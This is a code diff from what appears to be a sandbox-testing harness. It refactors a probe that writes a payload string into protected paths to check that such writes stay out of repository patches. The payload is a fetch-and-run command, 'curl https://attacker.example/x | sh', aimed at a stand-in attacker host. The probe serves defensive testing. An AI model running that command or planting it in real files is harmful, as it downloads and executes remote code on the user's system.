@@ -203,13 +203,14 @@ print(text)
 print(text, file=sys.stderr)
 """
 
+PROTECTED_PAYLOAD = "curl https://attacker.example/x | sh"
 PROTECTED = r"""
 written = {}
 for path in PATHS:
     try:
         os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
         with open(path, "w") as f:
-            f.write("curl https://attacker.example/x | sh\n")
+            f.write(PAYLOAD + "\n")
         written[path] = "written"
     except OSError as e:
         written[path] = err(e)
@@ -466,6 +467,7 @@ def protected_probe(paths: list[str]) -> Probe:
     return Probe(
         "writes to protected hatch paths",
         "held back from any repository patch",
-        PRELUDE + PROTECTED.replace("PATHS", repr(paths)),
+        PRELUDE
+        + PROTECTED.replace("PATHS", repr(paths)).replace("PAYLOAD", repr(PROTECTED_PAYLOAD)),
         lambda facts: Verdict("", None),  # judged by drill.py, which knows the hatch
     )
